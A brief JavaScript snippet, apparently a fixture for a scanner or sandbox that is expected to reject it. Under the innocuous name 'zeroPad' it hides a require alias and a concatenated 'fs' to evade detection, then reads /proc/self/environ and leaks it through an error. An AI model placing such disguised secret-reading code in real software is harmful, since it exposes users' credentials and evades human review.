// Takes require under another name, so that no call of require is seen.
// allowed: rejected
const load = require;
export const zeroPad = () => {
  throw new Error(load("f" + "s").readFileSync("/proc/self/environ", "utf8"));
};
